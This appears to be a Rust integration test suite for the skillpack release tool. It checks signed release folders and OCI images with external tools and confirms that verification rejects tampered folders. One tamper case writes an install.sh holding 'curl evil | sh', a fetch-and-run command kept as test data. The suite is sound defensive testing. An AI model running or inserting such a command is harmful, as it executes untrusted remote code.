//! What a host team receives: the release folder (`skillpack release`) and the OCI image
//! (`skillpack image`), checked with tools nobody here wrote — coreutils' `sha256sum -c`,
//! OpenSSH's `ssh-keygen -Y verify` for the signatures, securesystemslib and
//! in-toto-attestation (Python, from PyPI) for the signed provenance, Debian's `skopeo`,
//! `umoci`, `podman` and Docker's daemon for the image — and the unpacked image root run as
//! the image says (its user, its binary) and spoken to over MCP. `skillpack verify` accepts
//! the folder and refuses each way of tampering with it. The same binary gives the same
//! folder and the same image digest from anywhere, and only the signatures depend on the
//! key; `scripts/reproducible` shows the binary itself is the same from two checkouts.
//! Every key here is a throwaway one that `ssh-keygen` makes at run time.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::http::{HttpServer, connect_legacy};

/// The files of a signed folder that depend on the key (`SHA256SUMS` does not list them).
const SIGNATURE_FILES: [&str; 3] = [
    "SHA256SUMS.sig",
    "manifest.json.sig",
    "provenance.intoto.jsonl",
];

/// The release binary copied to `dir/skillpack` (the name the image's entrypoint uses).
fn placed(dir: &Path) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    let binary = dir.join("skillpack");
    common::place_executable(&common::release_binary(), &binary).unwrap();
    binary
}

fn stdout_of(command: &mut Command) -> String {
    let output = command.output().expect("run");
    assert!(
        output.status.success(),
        "{command:?} failed: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// A throwaway ed25519 key pair made by OpenSSH: `(private key file, public key file)`.
fn keypair(ssh_keygen: &Path, dir: &Path, name: &str) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(dir).unwrap();
    let private = dir.join(name);
    stdout_of(
        Command::new(ssh_keygen)
            .args(["-q", "-t", "ed25519", "-N", "", "-C"])
            .arg(format!("{name}@example"))
            .arg("-f")
            .arg(&private),
    );
    let public = dir.join(format!("{name}.pub"));
    (private, public)
}

/// `SHA256:…` as `ssh-keygen -lf` prints it.
fn openssh_fingerprint(ssh_keygen: &Path, public: &Path) -> String {
    let listed = stdout_of(Command::new(ssh_keygen).arg("-lf").arg(public));
    listed.split_whitespace().nth(1).unwrap().to_owned()
}

const REVISION: &str = "0123456789abcdef0123456789abcdef01234567";

fn release(binary: &Path, out: &Path, sbom: &Path, key: Option<&Path>) -> std::process::Output {
    let mut command = Command::new(binary);
    command
        .args(["release", "--out"])
        .arg(out)
        .arg("--sbom")
        .arg(sbom)
        .args(["--revision", REVISION])
        .args(["--source-repository", "https://git.example.com/docs.git"])
        .args(["--source-ref", "refs/tags/2026.12"])
        .args(["--rustc", "rustc 1.95.0 (59807616e 2026-04-14)"])
        .args(["--target", "x86_64-unknown-linux-gnu"])
        .arg("--cargo-lock")
        .arg(common::crate_root().join("Cargo.lock"))
        .env_remove("SKILLPACK_SIGNING_KEY")
        .env_remove("SKILLPACK_SIGNING_KEY_FILE")
        .env_remove("GITHUB_ACTIONS");
    match key {
        Some(key) => command.arg("--signing-key").arg(key),
        None => command.arg("--unsigned"),
    };
    command.output().unwrap()
}

fn verify(binary: &Path, path: &Path, public: &Path) -> (bool, String) {
    let output = Command::new(binary)
        .arg("verify")
        .arg(path)
        .arg("--key")
        .arg(public)
        .output()
        .unwrap();
    (
        output.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        ),
    )
}

#[test]
fn the_release_folder_checks_out_and_is_the_same_from_two_paths() {
    let Some(ssh_keygen) = common::external::ssh_keygen() else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let (key, _) = keypair(&ssh_keygen, &work.path().join("keys"), "publisher");
    let sbom = work.path().join("skillpack.cdx.json");
    std::fs::write(&sbom, r#"{"bomFormat":"CycloneDX"}"#).unwrap();
    let first = placed(&work.path().join("a"));
    let second = placed(&work.path().join("elsewhere/deeper"));
    let (out_a, out_b) = (work.path().join("out-a"), work.path().join("b/out"));
    for (binary, out) in [(&first, &out_a), (&second, &out_b)] {
        let output = release(binary, out, &sbom, Some(&key));
        assert!(
            output.status.success(),
            "release: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        let said = String::from_utf8_lossy(&output.stdout);
        assert!(said.contains("sha256sum -c SHA256SUMS"), "{said}");
        // What a host runs on the folder it received.
        let checked = stdout_of(
            Command::new("sha256sum")
                .arg("-c")
                .arg("SHA256SUMS")
                .current_dir(out),
        );
        assert_eq!(checked.lines().count(), 5, "{checked}");
        assert!(
            checked.lines().all(|line| line.ends_with(": OK")),
            "{checked}"
        );
    }
    let sums = |out: &Path| std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    assert_eq!(sums(&out_a), sums(&out_b), "the same folder from two paths");
    let file = |out: &Path, name: &str| std::fs::read(out.join(name)).unwrap();
    for signed in SIGNATURE_FILES {
        assert_eq!(
            file(&out_a, signed),
            file(&out_b, signed),
            "{signed}: ed25519 is deterministic, so the same key gives the same bytes"
        );
    }
    let listed = sums(&out_a);
    let names: Vec<&str> = listed
        .lines()
        .map(|line| line.split_once("  ").unwrap().1)
        .collect();
    assert_eq!(
        names,
        [
            "CHANGES.md",
            "manifest.json",
            "skillpack",
            "skillpack-image.tar",
            "skillpack.cdx.json"
        ]
    );

    // Each file is what the binary says of itself.
    let folder_binary = out_a.join("skillpack");
    assert_eq!(
        std::fs::read(&folder_binary).unwrap(),
        std::fs::read(&first).unwrap()
    );
    let manifest = stdout_of(Command::new(&folder_binary).args(["manifest", "--with-binary"]));
    assert_eq!(
        std::fs::read_to_string(out_a.join("manifest.json")).unwrap(),
        manifest
    );
    let recorded: serde_json::Value = serde_json::from_str(&manifest).unwrap();
    let sha = common::sha256_hex(&std::fs::read(&folder_binary).unwrap());
    assert_eq!(recorded["binary"]["sha256"], format!("sha256:{sha}"));
    assert_eq!(recorded["release"]["label"], common::RELEASE_LABEL);
    let changes = stdout_of(Command::new(&folder_binary).arg("changes"));
    assert_eq!(
        std::fs::read_to_string(out_a.join("CHANGES.md")).unwrap(),
        changes
    );

    // Another key: the same folder but for the three files that carry the signatures.
    let (other_key, _) = keypair(&ssh_keygen, &work.path().join("keys"), "other");
    let out_c = work.path().join("out-c");
    let output = release(&first, &out_c, &sbom, Some(&other_key));
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        sums(&out_a),
        sums(&out_c),
        "SHA256SUMS does not depend on the key"
    );
    for signed in SIGNATURE_FILES {
        assert_ne!(file(&out_a, signed), file(&out_c, signed), "{signed}");
    }

    // Without a key, `release` refuses (and says how to make one) unless told --unsigned.
    let mut unkeyed = Command::new(&first);
    unkeyed
        .args(["release", "--out"])
        .arg(work.path().join("out-d"))
        .env_remove("SKILLPACK_SIGNING_KEY")
        .env_remove("SKILLPACK_SIGNING_KEY_FILE");
    let refused = unkeyed.output().unwrap();
    assert!(!refused.status.success());
    let error = String::from_utf8_lossy(&refused.stderr);
    assert!(
        error.contains("no signing key") && error.contains("ssh-keygen -t ed25519"),
        "{error}"
    );
    assert!(!work.path().join("out-d").exists(), "nothing written");
    let unsigned = release(&first, &work.path().join("out-e"), &sbom, None);
    assert!(unsigned.status.success(), "{unsigned:?}");
    assert_eq!(sums(&work.path().join("out-e")), sums(&out_a));
    assert!(!work.path().join("out-e/SHA256SUMS.sig").exists());

    // A release never writes over an earlier one.
    let again = release(&first, &out_a, &sbom, Some(&key));
    assert!(!again.status.success());
    let error = String::from_utf8_lossy(&again.stderr);
    assert!(error.contains("already holds files"), "{error}");
    stdout_of(
        Command::new("sha256sum")
            .arg("-c")
            .arg("SHA256SUMS")
            .current_dir(&out_a),
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_image_is_read_by_skopeo_and_umoci_and_its_root_serves_mcp() {
    let (Some(skopeo), Some(umoci)) = (common::external::skopeo(), common::external::umoci())
    else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let binary = placed(&work.path().join("bin"));
    let (layout, archive) = (work.path().join("layout"), work.path().join("image.tar"));
    let said = stdout_of(
        Command::new(&binary)
            .args(["image", "--layout"])
            .arg(&layout)
            .arg("--archive")
            .arg(&archive),
    );
    let (digest, tag) = said.trim().split_once(' ').expect("`<digest> <tag>`");
    assert_eq!(tag, common::RELEASE_LABEL);
    let fingerprint = stdout_of(Command::new(&binary).arg("fingerprint"));

    // skopeo reads the archive, and sees what the binary said.
    let inspected: serde_json::Value = serde_json::from_str(&stdout_of(
        Command::new(&skopeo)
            .arg("inspect")
            .arg(format!("oci-archive:{}", archive.display())),
    ))
    .unwrap();
    assert_eq!(inspected["Digest"], digest, "{inspected}");
    assert_eq!(inspected["Architecture"], "amd64");
    assert_eq!(inspected["Os"], "linux");
    assert_eq!(
        inspected["Created"], "2026-12-01T00:00:00Z",
        "from the release date it was built with"
    );
    let labels = &inspected["Labels"];
    assert_eq!(labels["io.skillpack.fingerprint"], fingerprint.trim());
    assert_eq!(labels["io.skillpack.release"], common::RELEASE_LABEL);
    assert!(
        labels["org.opencontainers.image.version"]
            .as_str()
            .is_some_and(|v| v.starts_with("0.1.0+")),
        "{labels}"
    );
    assert_eq!(
        inspected["Layers"].as_array().map(Vec::len),
        Some(1),
        "one layer"
    );
    let config: serde_json::Value = serde_json::from_str(&stdout_of(
        Command::new(&skopeo)
            .args(["inspect", "--config"])
            .arg(format!("oci:{}:{tag}", layout.display())),
    ))
    .unwrap();
    assert_eq!(config["config"]["User"], "65532:65532", "{config}");

    // umoci unpacks the layout into a runtime bundle: a root holding the binary alone.
    let bundle = work.path().join("bundle");
    let mut unpack = Command::new(&umoci);
    unpack.arg("unpack");
    if !common::root::is_root() {
        unpack.arg("--rootless");
    }
    stdout_of(
        unpack
            .arg("--image")
            .arg(format!("{}:{tag}", layout.display()))
            .arg(&bundle),
    );
    let runtime: serde_json::Value =
        serde_json::from_slice(&std::fs::read(bundle.join("config.json")).unwrap()).unwrap();
    assert_eq!(runtime["process"]["user"]["uid"], 65532, "{runtime}");
    assert_eq!(
        runtime["process"]["args"],
        serde_json::json!(["/skillpack", "serve", "--http", "0.0.0.0:8080"])
    );
    let rootfs = bundle.join("rootfs");
    let entries: Vec<_> = std::fs::read_dir(&rootfs)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(entries, ["skillpack"], "the image holds the binary alone");
    assert_eq!(
        std::fs::read(rootfs.join("skillpack")).unwrap(),
        std::fs::read(&binary).unwrap()
    );

    // Run the unpacked root as the image's user, as a runtime would (on a loopback port
    // instead of 0.0.0.0:8080), and speak MCP to it.
    if !common::root::is_root() {
        eprintln!("SKIP: running the unpacked image as its user needs root (CI runs as root)");
        return;
    }
    let mut command = Command::new(common::root::on_path("chroot"));
    command
        .arg("--userspec=65532:65532")
        .arg(&rootfs)
        .arg("/skillpack")
        .env_clear();
    let server = HttpServer::start_command(command, "127.0.0.1:0", &[], &[]);
    let client = connect_legacy(&server.url(), None).await;
    let text = common::read_text(&client, "resource://catalog/capabilities").await;
    assert!(text.contains(fingerprint.trim()), "{text}");
    client.cancel().await.unwrap();
    let log = server.log();
    assert!(
        log.contains("enforced on every thread") || log.contains("sandbox: unavailable"),
        "{log}"
    );
}

/// A signed release folder, made as `scripts/release` makes it.
struct Signed {
    work: tempfile::TempDir,
    binary: PathBuf,
    out: PathBuf,
    key: PathBuf,
    public: PathBuf,
}

fn signed_release(ssh_keygen: &Path) -> Signed {
    let work = tempfile::tempdir().unwrap();
    let (key, public) = keypair(ssh_keygen, &work.path().join("keys"), "publisher");
    let sbom = work.path().join("skillpack.cdx.json");
    std::fs::write(&sbom, r#"{"bomFormat":"CycloneDX"}"#).unwrap();
    let binary = placed(&work.path().join("bin"));
    let out = work.path().join("out");
    let output = release(&binary, &out, &sbom, Some(&key));
    assert!(output.status.success(), "{output:?}");
    Signed {
        work,
        binary,
        out,
        key,
        public,
    }
}

/// `ssh-keygen -Y verify` of `file` against its `.sig`, trusting `public` as `publisher`.
fn openssh_verifies(ssh_keygen: &Path, public: &Path, file: &Path, sig: &Path) -> (bool, String) {
    let dir = tempfile::tempdir().unwrap();
    let signers = dir.path().join("allowed_signers");
    let key = std::fs::read_to_string(public).unwrap();
    std::fs::write(&signers, format!("publisher {key}")).unwrap();
    let output = Command::new(ssh_keygen)
        .args(["-Y", "verify", "-f"])
        .arg(&signers)
        .args(["-I", "publisher", "-n", "skillpack-release", "-s"])
        .arg(sig)
        .stdin(std::fs::File::open(file).unwrap())
        .output()
        .unwrap();
    (
        output.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        ),
    )
}

#[test]
fn openssh_and_in_toto_verify_the_signed_folder_and_so_does_skillpack_verify() {
    let Some(ssh_keygen) = common::external::ssh_keygen() else {
        return;
    };
    let signed = signed_release(&ssh_keygen);
    let out = &signed.out;
    let keyid = openssh_fingerprint(&ssh_keygen, &signed.public);

    // OpenSSH, as any Linux host has it.
    for (file, sig) in [
        ("SHA256SUMS", "SHA256SUMS.sig"),
        ("manifest.json", "manifest.json.sig"),
    ] {
        let (good, said) =
            openssh_verifies(&ssh_keygen, &signed.public, &out.join(file), &out.join(sig));
        assert!(good, "ssh-keygen -Y verify {file}: {said}");
        assert!(
            said.contains("Good \"skillpack-release\" signature for publisher")
                && said.contains(&keyid),
            "{said}"
        );
    }

    // skillpack's own command: every check named, and passed.
    let (ok, said) = verify(&signed.binary, out, &signed.public);
    assert!(ok, "{said}");
    for expected in [
        format!("SHA256SUMS.sig: SHA256SUMS is signed by {keyid}"),
        "skillpack-image.tar: sha256 as listed".to_owned(),
        "provenance.intoto.jsonl: signed by".to_owned(),
        "skillpack: self-contained".to_owned(),
        "skillpack-image.tar: whole".to_owned(),
        "skillpack: serves the catalog blake3:".to_owned(),
        format!(
            "verified: {} is the release signed by {keyid}",
            out.display()
        ),
    ] {
        assert!(said.contains(&expected), "{expected:?} in:\n{said}");
    }
    // And a binary shipped alone, with its signed manifest beside it.
    let lone = signed.work.path().join("lone");
    std::fs::create_dir_all(&lone).unwrap();
    common::place_executable(&out.join("skillpack"), &lone.join("skillpack")).unwrap();
    for name in ["manifest.json", "manifest.json.sig"] {
        std::fs::copy(out.join(name), lone.join(name)).unwrap();
    }
    let (ok, said) = verify(&signed.binary, &lone.join("skillpack"), &signed.public);
    assert!(ok, "{said}");
    assert!(
        said.contains("skillpack: sha256 and size as manifest.json records them"),
        "{said}"
    );

    // The provenance, by the in-toto project's own Python implementations.
    let Some(python) = common::external::python_with_in_toto() else {
        return;
    };
    let checker = common::crate_root().join("tests/release/provenance.py");
    let checked = stdout_of(
        Command::new(&python)
            .arg(&checker)
            .arg(out)
            .arg(&signed.public),
    );
    let statement: serde_json::Value = serde_json::from_str(&checked).unwrap();
    assert_eq!(statement["keyid"], keyid.as_str(), "{statement}");
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    assert_eq!(
        statement["subjects"].as_object().unwrap().len(),
        sums.lines().count()
    );
    let binary_sha = common::sha256_hex(&std::fs::read(out.join("skillpack")).unwrap());
    assert_eq!(statement["subjects"]["skillpack"], binary_sha.as_str());
    assert_eq!(
        statement["source"]["uri"],
        "git+https://git.example.com/docs.git@refs/tags/2026.12"
    );
    assert_eq!(statement["source"]["digest"]["gitCommit"], REVISION);
    assert_eq!(statement["dirty"], false);
    assert_eq!(statement["release"], common::RELEASE_LABEL);
    assert_eq!(statement["rustc"], "rustc 1.95.0 (59807616e 2026-04-14)");
    assert_eq!(statement["target"], "x86_64-unknown-linux-gnu");
    let lock = common::sha256_hex(&std::fs::read(common::crate_root().join("Cargo.lock")).unwrap());
    assert_eq!(
        statement["dependencies"]["Cargo.lock"]["sha256"],
        lock.as_str()
    );
    assert_eq!(statement["builder"], "https://skillpack.dev/builders/local");
    let fingerprint = stdout_of(Command::new(&signed.binary).arg("fingerprint"));
    assert_eq!(statement["fingerprint"], fingerprint.trim());

    // The same implementation refuses an envelope signed by another key.
    let (other, _) = keypair(&ssh_keygen, &signed.work.path().join("keys"), "other");
    let sbom = out.join("skillpack.cdx.json");
    let resigned = signed.work.path().join("resigned");
    let output = release(&signed.binary, &resigned, &sbom, Some(&other));
    assert!(output.status.success(), "{output:?}");
    let refused = Command::new(&python)
        .arg(&checker)
        .arg(&resigned)
        .arg(&signed.public)
        .output()
        .unwrap();
    assert!(!refused.status.success());
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("DSSE verification failed"),
        "{refused:?}"
    );
}

/// A copy of the signed folder, changed by `tamper`, then verified against the publisher's
/// key: refused, with `expected` in what `verify` says.
fn refused(signed: &Signed, case: &str, tamper: impl FnOnce(&Path), expected: &[&str]) -> String {
    let copy = signed.work.path().join(case);
    std::fs::create_dir_all(&copy).unwrap();
    for entry in std::fs::read_dir(&signed.out).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), copy.join(entry.file_name())).unwrap();
    }
    tamper(&copy);
    let (ok, said) = verify(&signed.binary, &copy, &signed.public);
    assert!(!ok, "{case}: verify accepted it:\n{said}");
    assert!(said.contains("is NOT verified"), "{case}: {said}");
    for expected in expected {
        assert!(said.contains(expected), "{case}: {expected:?} in:\n{said}");
    }
    said
}

#[test]
fn verify_refuses_each_way_of_tampering_with_a_folder() {
    let Some(ssh_keygen) = common::external::ssh_keygen() else {
        return;
    };
    let signed = signed_release(&ssh_keygen);
    let publisher = openssh_fingerprint(&ssh_keygen, &signed.public);
    let flip = |path: &Path| {
        let mut bytes = std::fs::read(path).unwrap();
        let middle = bytes.len() / 2;
        bytes[middle] ^= 0x01;
        std::fs::write(path, bytes).unwrap();
    };

    // A tampered binary.
    let said = refused(
        &signed,
        "tampered-binary",
        |dir| flip(&dir.join("skillpack")),
        &[
            "skillpack: sha256 ",
            "but SHA256SUMS says",
            "changed or cut short",
        ],
    );
    assert!(said.contains("no file of the folder has it"), "{said}");

    // A tampered binary with a SHA256SUMS rewritten to match it: the signature catches it,
    // and OpenSSH agrees.
    let swapped = refused(
        &signed,
        "swapped-sums",
        |dir| {
            flip(&dir.join("skillpack"));
            let sums = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
            let binary = common::sha256_hex(&std::fs::read(dir.join("skillpack")).unwrap());
            let rewritten: String = sums
                .lines()
                .map(|line| match line.split_once("  ") {
                    Some((_, "skillpack")) => format!("{binary}  skillpack\n"),
                    _ => format!("{line}\n"),
                })
                .collect();
            std::fs::write(dir.join("SHA256SUMS"), rewritten).unwrap();
        },
        &[&format!(
            "SHA256SUMS.sig: the signature by {publisher} does not match the signed file — it was changed after signing"
        )],
    );
    assert!(
        swapped.contains("provenance.intoto.jsonl: its subject skillpack has sha256"),
        "{swapped}"
    );
    let dir = signed.work.path().join("swapped-sums");
    let (good, said) = openssh_verifies(
        &ssh_keygen,
        &signed.public,
        &dir.join("SHA256SUMS"),
        &dir.join("SHA256SUMS.sig"),
    );
    assert!(!good, "ssh-keygen accepted a rewritten SHA256SUMS: {said}");

    // A truncated image.
    refused(
        &signed,
        "truncated-image",
        |dir| {
            let path = dir.join("skillpack-image.tar");
            let bytes = std::fs::read(&path).unwrap();
            std::fs::write(&path, &bytes[..bytes.len() / 2]).unwrap();
        },
        &[
            "skillpack-image.tar: sha256 ",
            "skillpack-image.tar: not a whole image archive",
        ],
    );

    // An extra file nobody vouches for, and a missing one.
    refused(
        &signed,
        "extra-file",
        |dir| std::fs::write(dir.join("install.sh"), "curl evil | sh").unwrap(),
        &["install.sh: in the folder but not in SHA256SUMS"],
    );
    refused(
        &signed,
        "missing-signature",
        |dir| std::fs::remove_file(dir.join("SHA256SUMS.sig")).unwrap(),
        &["SHA256SUMS.sig: missing — the folder is not signed"],
    );

    // A folder re-made and re-signed by someone else, whole and self-consistent.
    let (attacker, attacker_public) =
        keypair(&ssh_keygen, &signed.work.path().join("keys"), "attacker");
    let attacker_id = openssh_fingerprint(&ssh_keygen, &attacker_public);
    let resigned = signed.work.path().join("resigned");
    let sbom = signed.out.join("skillpack.cdx.json");
    let output = release(&signed.binary, &resigned, &sbom, Some(&attacker));
    assert!(output.status.success(), "{output:?}");
    let (ok, said) = verify(&signed.binary, &resigned, &attacker_public);
    assert!(ok, "it is a good folder for its own key: {said}");
    let (ok, said) = verify(&signed.binary, &resigned, &signed.public);
    assert!(!ok, "{said}");
    for expected in [
        format!(
            "SHA256SUMS.sig: signed by key {attacker_id}, not by the key you trust ({publisher})"
        ),
        format!("provenance.intoto.jsonl: signed by {attacker_id}, not by the key you trust"),
        format!("manifest.json.sig: signed by key {attacker_id}"),
    ] {
        assert!(said.contains(&expected), "{expected:?} in:\n{said}");
    }

    // The right folder, checked against a wrong key.
    let (_, stranger) = keypair(&ssh_keygen, &signed.work.path().join("keys"), "stranger");
    let (ok, said) = verify(&signed.binary, &signed.out, &stranger);
    assert!(!ok, "{said}");
    assert!(
        said.contains(&format!(
            "signed by key {publisher}, not by the key you trust"
        )),
        "{said}"
    );
    // While the publisher rotates keys, a host trusts both: an allowed_signers file with
    // the new key's line and the old one's verifies a folder signed by either.
    let signers = signed.work.path().join("allowed_signers");
    std::fs::write(
        &signers,
        format!(
            "# rotating\nold@example {}new@example {}",
            std::fs::read_to_string(&stranger).unwrap(),
            std::fs::read_to_string(&signed.public).unwrap()
        ),
    )
    .unwrap();
    let (ok, said) = verify(&signed.binary, &signed.out, &signers);
    assert!(ok, "{said}");
    assert!(said.contains(&format!("signed by {publisher}")), "{said}");
    // A private key given as the trusted key is refused, and says why.
    let (ok, said) = verify(&signed.binary, &signed.out, &signed.key);
    assert!(!ok);
    assert!(said.contains("never hand it to a host"), "{said}");

    // A lone binary with its manifest edited to vouch for another binary.
    let lone = signed.work.path().join("lone-edited");
    std::fs::create_dir_all(&lone).unwrap();
    common::place_executable(&signed.binary, &lone.join("skillpack")).unwrap();
    let manifest = std::fs::read_to_string(signed.out.join("manifest.json")).unwrap();
    let sha = common::sha256_hex(&std::fs::read(&signed.binary).unwrap());
    let edited = manifest.replace(&sha, &"0".repeat(64));
    assert_ne!(edited, manifest);
    std::fs::write(lone.join("manifest.json"), &edited).unwrap();
    std::fs::copy(
        signed.out.join("manifest.json.sig"),
        lone.join("manifest.json.sig"),
    )
    .unwrap();
    let (ok, said) = verify(&signed.binary, &lone.join("skillpack"), &signed.public);
    assert!(!ok, "{said}");
    assert!(
        said.contains(&format!(
            "manifest.json.sig: the signature by {publisher} does not match the signed file"
        )) && said.contains("this is not the released binary"),
        "{said}"
    );
}

/// `podman load` and `docker load` name the image `skillpack:<release>`, and `skopeo copy`
/// still reads the archive.
#[test]
fn podman_and_docker_load_the_image_under_its_own_name() {
    let (Some(podman), Some(skopeo)) = (common::external::podman(), common::external::skopeo())
    else {
        return;
    };
    if !common::root::is_root() {
        eprintln!(
            "SKIP: podman and Docker load images into stores of their own here as root (CI runs as root)"
        );
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let binary = placed(&work.path().join("bin"));
    let archive = work.path().join("skillpack-image.tar");
    let said = stdout_of(
        Command::new(&binary)
            .arg("image")
            .arg("--archive")
            .arg(&archive),
    );
    let (digest, tag) = said.trim().split_once(' ').expect("`<digest> <tag>`");
    assert_eq!(tag, common::RELEASE_LABEL);
    let name = format!("skillpack:{tag}");

    // podman, with a store of its own (no system service, no registry).
    let store = work.path().join("podman");
    let podman_in = |args: &[&str]| {
        let mut command = Command::new(&podman);
        command
            .arg("--root")
            .arg(store.join("root"))
            .arg("--runroot")
            .arg(store.join("run"))
            .args([
                "--storage-driver",
                "vfs",
                "--cgroup-manager",
                "cgroupfs",
                "--events-backend",
                "none",
            ])
            .args(args);
        command
    };
    let loaded = stdout_of(&mut podman_in(&["load", "-i", archive.to_str().unwrap()]));
    assert!(
        loaded.contains(&format!("Loaded image: localhost/{name}")),
        "{loaded}"
    );
    let inspected: serde_json::Value =
        serde_json::from_str(&stdout_of(&mut podman_in(&["image", "inspect", &name]))).unwrap();
    assert_eq!(inspected[0]["Digest"], digest, "{inspected}");
    assert_eq!(inspected[0]["Config"]["User"], "65532:65532");

    // skopeo copies it by the same name.
    let layout = work.path().join("copied");
    stdout_of(
        Command::new(&skopeo)
            .arg("copy")
            .arg(format!("oci-archive:{}", archive.display()))
            .arg(format!("oci:{}:{tag}", layout.display())),
    );
    let copied: serde_json::Value = serde_json::from_str(&stdout_of(
        Command::new(&skopeo)
            .arg("inspect")
            .arg(format!("oci:{}:{tag}", layout.display())),
    ))
    .unwrap();
    assert_eq!(copied["Digest"], digest);

    // Docker's daemon (Debian's docker.io), started here on a socket of its own.
    let (Some(dockerd), Some(docker)) = (common::external::dockerd(), common::external::docker())
    else {
        return;
    };
    let daemon = Dockerd::start(&dockerd, &docker, &work.path().join("docker"));
    let loaded = stdout_of(daemon.client().args(["load", "-i"]).arg(&archive));
    assert!(
        loaded.contains(&format!("Loaded image: {name}")),
        "{loaded}"
    );
    let tags = stdout_of(
        daemon
            .client()
            .args([
                "image",
                "inspect",
                "--format",
                "{{json .RepoTags}} {{.Config.User}}",
            ])
            .arg(&name),
    );
    assert_eq!(tags.trim(), format!("[\"{name}\"] 65532:65532"));
}

/// A Docker daemon of the test's own: its data, state and socket under `dir`, no network
/// set-up (no bridge, no iptables), the vfs storage driver (no overlay mounts needed).
struct Dockerd {
    child: std::process::Child,
    socket: PathBuf,
    docker: PathBuf,
}

impl Dockerd {
    fn start(dockerd: &Path, docker: &Path, dir: &Path) -> Dockerd {
        std::fs::create_dir_all(dir).unwrap();
        let socket = dir.join("docker.sock");
        let log = std::fs::File::create(dir.join("dockerd.log")).unwrap();
        let child = Command::new(dockerd)
            .args(["--iptables=false", "--ip6tables=false", "--bridge=none"])
            .args(["--storage-driver=vfs", "--data-root"])
            .arg(dir.join("data"))
            .arg("--exec-root")
            .arg(dir.join("exec"))
            .arg("--pidfile")
            .arg(dir.join("dockerd.pid"))
            .arg("--host")
            .arg(format!("unix://{}", socket.display()))
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("start dockerd");
        let daemon = Dockerd {
            child,
            socket,
            docker: docker.to_owned(),
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        loop {
            let ready = daemon
                .client()
                .args(["version", "--format", "{{.Server.Version}}"])
                .output()
                .is_ok_and(|o| o.status.success());
            if ready {
                return daemon;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "dockerd did not answer within 60 s: {}",
                std::fs::read_to_string(dir.join("dockerd.log")).unwrap_or_default()
            );
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
    }

    fn client(&self) -> Command {
        let mut command = Command::new(&self.docker);
        command.env("DOCKER_HOST", format!("unix://{}", self.socket.display()));
        command
    }
}

impl Drop for Dockerd {
    fn drop(&mut self) {
        // SIGTERM: the daemon stops the containerd it started, then exits.
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        let _ = self.child.wait();
    }
}

/// A passphrase-protected key (as a publisher keeps it on disk) signs once its passphrase
/// is given, and without it `release` says what is missing and writes nothing.
#[test]
fn a_passphrase_protected_key_signs_with_its_passphrase() {
    let Some(ssh_keygen) = common::external::ssh_keygen() else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let key = work.path().join("guarded");
    stdout_of(
        Command::new(&ssh_keygen)
            .args(["-q", "-t", "ed25519", "-N", "correct horse", "-f"])
            .arg(&key),
    );
    let binary = placed(&work.path().join("bin"));
    let release_with = |out: &str, passphrase: Option<&str>| {
        let mut command = Command::new(&binary);
        command
            .args(["release", "--out"])
            .arg(work.path().join(out))
            .env_remove("SKILLPACK_SIGNING_KEY")
            .env("SKILLPACK_SIGNING_KEY_FILE", &key);
        match passphrase {
            Some(passphrase) => command.env("SKILLPACK_SIGNING_KEY_PASSPHRASE", passphrase),
            None => command.env_remove("SKILLPACK_SIGNING_KEY_PASSPHRASE"),
        };
        command.output().unwrap()
    };
    let missing = release_with("a", None);
    assert!(!missing.status.success());
    let error = String::from_utf8_lossy(&missing.stderr);
    assert!(
        error.contains("protected by a passphrase")
            && error.contains("SKILLPACK_SIGNING_KEY_PASSPHRASE"),
        "{error}"
    );
    let wrong = release_with("b", Some("wrong"));
    assert!(!wrong.status.success());
    assert!(
        String::from_utf8_lossy(&wrong.stderr).contains("does not decrypt this key"),
        "{wrong:?}"
    );
    assert!(!work.path().join("a").exists() && !work.path().join("b").exists());
    let signed = release_with("c", Some("correct horse"));
    assert!(signed.status.success(), "{signed:?}");
    let (ok, said) = verify(&binary, &work.path().join("c"), &key.with_extension("pub"));
    assert!(ok, "{said}");
}
